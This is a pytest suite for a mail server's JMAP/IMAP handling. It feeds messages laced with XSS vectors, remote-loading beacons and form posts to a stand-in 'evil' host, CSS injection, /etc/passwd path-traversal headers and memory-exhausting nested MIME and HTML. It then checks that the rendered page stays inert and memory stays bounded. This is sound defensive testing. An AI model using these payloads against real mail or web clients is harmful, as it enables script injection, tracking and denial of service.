"""Mail as a weapon against its reader: HTML that acts, characters that lie, structures without end."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.attacks.house import House

_VECTORS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data='data:text/html,x'></object>", "<embed src='x'>",
    "<form action='http://evil/'><input name=p><button>go</button></form>",
    "<base href='http://evil/'>", "<meta http-equiv=refresh content='0;url=http://evil/'>",
    "<link rel=stylesheet href='http://evil/x.css'>",
    "<style>@import 'http://evil/x.css'; body{background:url(http://evil/x)}</style>",
    "<p style='background:url(http://evil/x)'>x</p>",
    "<p style='background:\\75rl(http://evil/x)'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(http://evil/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<img srcset='http://evil/x 1x'>", "<img src='http://evil/beacon.gif'>", "<img src='//evil/beacon.gif'>",
    "<img src='/auth/logout'>",
    "<input type=image src=http://evil/x>", "<video poster=http://evil/x src=http://evil/y></video>",
    "<audio src=http://evil/x autoplay></audio>",
    "<body background=http://evil/x onload=alert(1)>",
    "<table background=http://evil/x><td background=http://evil/y>x", "<xmp><img src=x onerror=1></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<title></title><script>1</script>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>1</script>]]>",
    "<template><script>1</script></template>", "<select><noembed></select><script>1</script></noembed>",
    "<p/onclick=alert(1)>x</p>", "<x onclick=alert(1)>",
    "<a href=http://ok.test target=_self onclick=1 ping=http://evil/>x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">", "<img src=data:text/html,x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x'/></svg>", "<div id=x name=y class=z><p id=cookie>",
    "<img src='http://evil/\" onerror=\"alert(1)'>", "<p style=\"font-family:'x;background:url(http://evil)'\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p style='color:red/**/;background/**/:url(http://evil)'>", "<img src=x:x style=\"--a:url(http://evil/)\">",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<plaintext><script>1</script>", "<img src=https://user:pw@evil/x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<a href='https:javascript:1'>x</a>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p lang='\"><script>1</script>'>", "<font face='\" onload=1'>x</font>",
)  # fmt: skip
_ACTING = re.compile(
    r"script|svg|math|style|iframe|object|embed|form|input|button|base|meta|link|template|noscript|video|audio|textarea|select|title|xmp|plaintext"
)  # fmt: skip


class _Look(HTMLParser):
    """What is wrong with a page, as a browser's parser would meet it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Nothing that acts or loads."""
        if _ACTING.fullmatch(tag):
            self.wrong.append(tag)
        for name, value in attrs:
            said = re.sub(r"[\0-\x20]", "", (value or "").lower())
            if name.startswith("on") or name in (
                "srcset",
                "background",
                "poster",
                "action",
                "ping",
                "id",
                "class",
                "name",
                "xlink:href",
            ):
                self.wrong.append(name)
            if name == "href" and not said.startswith(("http:", "https:", "mailto:", "tel:")):
                self.wrong.append(said)
            if name == "src" and not said.startswith(
                ("/jmap/download/", "data:image/png", "data:image/gif", "data:image/jpeg", "data:image/webp")
            ):
                self.wrong.append(said)
            if name == "style" and re.search(r"url|expression|position|@|\\|binding|z-index|--", said):
                self.wrong.append(said)


def _page(house: House, octets: bytes, query: str = "") -> str:
    uid = house.append(octets)
    with house.imap() as peer:
        email = peer.command(b"UID FETCH %d EMAILID" % uid).split(b"EMAILID (")[1].split(b")")[0].decode()
    said = house.own("GET", f"/jmap/html/{house.account()}/{email}{query}")
    assert said.status == 200
    policy = said.headers["content-security-policy"]
    assert (
        "default-src 'none'" in policy
        and "script-src" not in policy
        and "allow-scripts" not in policy
        and "form-action 'none'" in policy
    )
    assert said.headers["x-content-type-options"] == "nosniff" and "private" in said.headers["cache-control"]
    if "images=1" not in query:
        assert "http:" not in policy and "https:" not in policy
    return said.body.decode()


@pytest.mark.parametrize("vector", _VECTORS, ids=range(len(_VECTORS)))
def test_html_does_not_act(house: House, vector: str) -> None:
    for kind in ("text/html; charset=utf-8", "text/html; charset=utf-7", "text/plain"):
        page = _page(house, f"Subject: v\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n{vector}".encode())
        look = _Look()
        look.feed(page.partition("</head>")[2])
        assert not look.wrong, (look.wrong, page)


def test_pictures_of_a_message_lead_to_itself(house: House) -> None:
    parts = b"".join(
        b"--b\r\nContent-Type: %b\r\nContent-ID: <%b>\r\n" % one[:2]
        + b"Content-Disposition: inline; filename=\"%b\"\r\n\r\nx\r\n" % one[2]
        for one in (
            (b"image/png", b"a", b'\\"><script>1</script>'), (b"image/svg+xml", b"b", b"x.svg"), (b"text/html", b"c",
            b"x.html"),
            (b"image/png", b'd" onerror="1', b"../../../etc/passwd"), (b"image/png", b"e", b"=?utf-7?Q?+2AA-?="),
        )
    )  # fmt: skip
    page = _page(
        house,
        b"Subject: cid\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
        + b"Content-Type: text/html\r\n\r\n"
        + b"".join(b'<img src="cid:%b">' % cid for cid in (b"a", b"b", b"c", b"d%22%20onerror=%221", b"e", b"../x",
        b"%00")) + b"\r\n" + parts + b"--b--\r\n",
    )  # fmt: skip
    look = _Look()
    look.feed(page.partition("</head>")[2])
    assert not look.wrong, (look.wrong, page)
    assert page.count("/jmap/download/") == 3, page


_HEADERS = (
    b"Subject: =?utf-7?Q?+2AA-?=", b"Subject: =?utf-8?Q?=00=01?=", b"Subject: =?unicode_escape?Q?\\ud800?=",
    b"Subject: =?utf-16?B?2AA=?=",
    b"Subject: =?raw_unicode_escape?Q?=5Cud800?=", b"Subject: =?punycode?Q?-?=", b"Subject: =?zlib_codec?B?eJw=?=",
    b"Subject: =?rot13?Q?x?=",
    b"Subject: =?idna?Q?xn--=00?=", b"Subject: \xed\xa0\x80", b"Subject: \0", b"Subject: " + b"=?utf-8?B?" * 20_000,
    b"Subject:" + b" x" * 300_000,
    b"From: " + b"(" * 50_000, b"From: " + b"<" * 50_000, b'From: "' + b"\\" * 50_000,
    b"To: " + b"a@b.test, " * 20_000, b"To: " + b"x:" * 50_000,
    b"Date: " + b"9" * 10_000, b"Date: Mon, 99 Foo 99999 99:99:99 +9999", b"Date: Fri, 31 Dec 9999 23:59:59 -9999",
    b"Date: 1 Jan 0001 00:00:00 +2359",
    b"References: " + b"<a@b> " * 50_000, b"Message-ID: " + b"<" * 10_000, b"In-Reply-To: \0",
    b"X: y\r\n" * 15_000 + b"Z: z",
    b"Content-Type: multipart/mixed; boundary=" + b"x" * 5000, b"Content-Type: multipart/mixed; boundary=\"\"",
    b"Content-Type: " + b"a/b;" * 20_000,
    b"Content-Type: text/plain; charset=" + b"x" * 5000, b"Content-Type: text/plain; charset=\"\0\"",
    b"Content-Type: text/html; charset=utf-7",
    b"Content-Transfer-Encoding: base64\r\nContent-Type: text/html", b"Content-Transfer-Encoding: x-uuencode",
    b"Content-Type: message/rfc822",
    b"Content-Type: text/plain; name*0*=utf-8''" + b"%" * 1000,
    b"Content-Type: text/plain; " + b"".join(b"name*%d=x;" % n for n in range(5000)),
    b"Content-Type: message/partial; number=1; total=1",
    b"Content-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"",
)  # fmt: skip


@pytest.mark.parametrize("head", _HEADERS, ids=range(len(_HEADERS)))
def test_letters_from_hell_are_shown_everywhere(house: House, head: bytes) -> None:
    octets = head + b"\r\nMIME-Version: 1.0\r\n\r\n" + b"<p>body</p>\xff\xfe\r\n" * 20
    _page(house, octets)
    email = house.call("Email/query", {"sort": [{"property": "receivedAt", "isAscending": False}], "limit": 1})["ids"]
    _everything(house, email)
    with house.imap() as peer:
        said = peer.command(
            b"UID FETCH * (FLAGS ENVELOPE BODYSTRUCTURE BODY.PEEK[HEADER.FIELDS (SUBJECT)]"
            b" BODY.PEEK[1] BODY.PEEK[1.MIME])"
        )
        assert b"x OK" in said
        assert b"x OK" in peer.command(b"UID SEARCH TEXT body SUBJECT x FROM a SENTSINCE 1-Jan-1990")


def _everything(house: House, ids: list[str]) -> None:
    properties = ["id", "subject", "from", "to", "sentAt", "preview", "bodyStructure", "bodyValues", "headers",
    "textBody", "htmlBody", "attachments",
                  "references", "header:From:asGroupedAddresses", "header:Subject:asText", "header:Date:asDate",
                  "header:References:asMessageIds"]  # fmt: skip
    answer: Any = house.call("Email/get", {"ids": ids, "properties": properties, "fetchAllBodyValues": True})
    assert answer.get("list") or answer.get("type") == "requestTooLarge", answer


@pytest.mark.parametrize(
    "octets",
    [
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 12_000,
        b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(3000)),
        b"Content-Type: message/rfc822\r\n\r\n" * 3000,
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--" * 300_000,
        b"Content-Type: text/html\r\n\r\n" + b"<div>" * 100_000,
        b"Content-Type: text/html\r\n\r\n" + b"<b>" * 100_000 + b"<p>" * 100_000,
        b"Content-Type: text/html\r\n\r\n" + b"<a href=x>" * 50_000,
        b"Content-Type: text/html\r\n\r\n<" + b"a " * 300_000,
        b"Content-Type: text/html\r\n\r\n" + b"a&" * 900_000, b"Content-Type: text/html\r\n\r\n" + b"<!--" * 200_000,
        b"\r\n" * 500_000,
        b"Content-Type: text/html\r\n\r\n<p style='" + b"a:b;" * 100_000 + b"'>",
        b"Content-Type: text/html\r\n\r\n" + b"<table><tr><td>" * 30_000,
        b"Content-Type: text/plain\r\n\r\n" + b"http://" * 100_000,
        b"Content-Type: text/plain\r\n\r\n" + b"a@" * 300_000 + b".",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=" * 500_000,
        b"Content-Type: text/html\r\n\r\n" + b"<svg><math>" * 30_000,
        b"Content-Type: text/plain; format=flowed\r\n\r\n" + b"> " * 300_000,
    ],
    ids=range(18),
)  # fmt: skip
def test_mail_without_end_is_shown(house: House, octets: bytes) -> None:
    before = house.rss()
    _page(house, b"Subject: endless\r\nMIME-Version: 1.0\r\n" + octets)
    email = house.call("Email/query", {"sort": [{"property": "receivedAt", "isAscending": False}], "limit": 1})["ids"]
    _everything(house, email)
    assert house.rss() - before < 300 << 20
